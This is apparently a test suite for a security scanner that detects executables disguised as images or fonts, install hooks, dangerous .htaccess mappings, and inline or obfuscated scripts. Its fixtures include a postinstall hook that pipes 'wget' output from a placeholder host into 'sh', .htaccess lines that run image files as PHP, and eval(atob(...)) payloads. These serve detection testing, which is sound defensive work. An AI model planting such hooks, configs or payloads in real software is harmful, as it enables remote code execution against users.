import assert from 'node:assert/strict';
import type { Flag } from '../../../domain/scan/flag.js';
import { flagsOf as flagsIn } from './found.js';

function flagsOf(path: string, content: string | Uint8Array): Flag[] {
  return flagsIn(path, typeof content === 'string' ? Buffer.from(content, 'latin1') : content);
}

const shown = (path: string, content: string | Uint8Array): string[] =>
  flagsOf(path, content).map(({ rule, severity, line, column }) => `${rule} ${severity} ${line}:${column}`);

/** A Windows program: its second header stands where the four bytes at 0x3c say. */
function windowsProgram(mark: string): Buffer {
  const bytes = Buffer.alloc(256);
  bytes.write('MZ', 0, 'latin1');
  bytes.writeUInt32LE(128, 0x3c);
  bytes.write(mark, 128, 'latin1');
  return bytes;
}

const fat = (magic: number, count: number): Buffer => {
  const bytes = Buffer.alloc(64);
  bytes.writeUInt32BE(magic, 0);
  bytes.writeUInt32BE(count, 4);
  return bytes;
};

describe('executable', () => {
  const programs: Readonly<Record<string, Uint8Array>> = {
    ELF: Buffer.from('\x7fELF\x02\x01\x01\0\0\0', 'latin1'),
    'Mach-O of 64 bits': Buffer.from('cffaedfe07000001', 'hex'),
    'Mach-O, big endian': Buffer.from('feedface00000012', 'hex'),
    'a fat Mach-O': fat(0xcafebabe, 2),
    'a fat Mach-O of 64 bits': fat(0xcafebabf, 3),
    'a Windows program': windowsProgram('PE\0\0'),
    'a Windows program of 16 bits': windowsProgram('NE'),
    'a Windows shortcut': Buffer.from('4c0000000114020000000000', 'hex'),
  };
  for (const [what, bytes] of Object.entries(programs)) {
    it(`finds ${what} under any name (decisions §5)`, () =>
      assert.deepEqual(shown('images/logo.png', bytes), ['executable high 1:1']));
  }

  it('reads the texts of data behind one that is too long to be read (decisions §5)', () => {
    const script = '<script>eval(atob(location.hash))</script>';
    const texts = [`${'a'.repeat(70_000)}<img onerror=`, script];
    assert.ok(shown('blocks.json', JSON.stringify(texts)).some((one) => one.startsWith('inline_script')));
  });

  it('finds a program of Linux behind the first bytes of a font', () => {
    const bytes = Buffer.from(`wOF2${'\0'.repeat(44)}\x7fELF\x02\x01\x01\0\0\0`, 'latin1');
    assert.deepEqual(shown('fonts/a.woff2', bytes), ['executable high 1:49']);
  });

  it('leaves a Java class, WebAssembly, pictures and texts alone (decisions §5)', () => {
    const others: Readonly<Record<string, Uint8Array>> = {
      'A.class': fat(0xcafebabe, 0x0034),
      'a.wasm': Buffer.from('0061736d01000000', 'hex'),
      'a.png': Buffer.from('89504e470d0a1a0a0000', 'hex'),
      'a.txt': Buffer.from(`MZ${'x'.repeat(200)}`),
      'b.txt': windowsProgram('XX'),
      'c.txt': Buffer.from('MZ'),
    };
    for (const [path, bytes] of Object.entries(others)) assert.deepEqual(shown(path, bytes), [], path);
  });
});

describe('install_script', () => {
  it('stands at its key, and is high where it fetches what it runs (decisions §5)', () => {
    const text = '{\n  "scripts": {\n    "build": "x",\n    "postinstall": "wget -qO- x.example | sh"\n  }\n}';
    assert.deepEqual(shown('package.json', text), ['install_script high 4:5']);
    assert.deepEqual(shown('package.json', text.replace('wget -qO- x.example | sh', 'node x')), [
      'install_script medium 4:5',
    ]);
  });
});

describe('server_config', () => {
  it('stands at the line that maps, prepends or sends away (decisions §5)', () => {
    const text =
      '# x\nOptions -Indexes\nAddHandler \\\n application/x-httpd-php .gif\nphp_value auto_prepend_file a.png\n';
    assert.deepEqual(shown('.htaccess', text), ['server_config high 3:1', 'server_config high 5:1']);
  });

  it('takes an action for dangerous only where a file that is no program is run (decisions §5)', () => {
    const action = (type: string, path: string): string[] => shown('.htaccess', `Action ${type} ${path}\n`);
    assert.deepEqual(action('application/x-httpd-php', '/logo.gif'), ['server_config high 1:1']);
    assert.deepEqual(action('application/x-httpd-php', '/run.php'), []);
    assert.deepEqual(action('text/plain', '/logo.gif'), []);
  });

  it('reads a line whose end is pushed far away (decisions §5)', () => {
    const text = `AddHandler application/x-httpd-php${' '.repeat(20_000)}.jpg`;
    assert.deepEqual(shown('.htaccess', text), ['server_config high 1:1']);
  });
});

describe('inline_script', () => {
  it('stands where the code stands, and in an attribute where its value begins (decisions §5)', () => {
    assert.deepEqual(shown('a.html', '<p>\n<script>\n  eval(x)</script>'), ['inline_script low 3:3']);
    assert.deepEqual(shown('a.html', '<b onclick="eval(atob(x))">'), ['inline_script high 1:13']);
  });

  it('reads on behind a script that does not end, and behind a comment (decisions §5)', () => {
    assert.deepEqual(shown('a.html', '<script>eval(x)'), ['inline_script low 1:9']);
    assert.deepEqual(shown('a.html', '<!-- <script>eval(x)</script>'), []);
  });

  it('takes a script in a picture for more than one in a page (decisions §5)', () => {
    assert.deepEqual(shown('a.svg', '<svg><script>go()</script></svg>'), ['inline_script medium 1:6']);
    assert.deepEqual(shown('a.html', '<svg><script>go()</script></svg>'), []);
  });
});

describe('obfuscated_script', () => {
  it('says once what is found at one place, and stands where it begins (decisions §5)', () => {
    const text = 'var a;\nvar k = [_0x1a2b, _0x1a2c, _0x1a2d, _0x1a2b, _0x1a2c, _0x1a2d, _0x1a2e, _0x1a2f];';
    assert.deepEqual(shown('a.js', text), ['obfuscated_script high 2:10']);
  });

  it('does not take a letter of minified code for a decoded text of the same name far away (decisions §5)', () => {
    const text = `e=String.fromCharCode(c);${'f(g,1);'.repeat(100)}setTimeout(e,1)`;
    assert.deepEqual(shown('a.js', text), []);
    assert.deepEqual(shown('a.js', text.replace('setTimeout', 'eval')), [
      'obfuscated_script high 1:730',
      'eval medium 1:726',
    ]);
  });
});
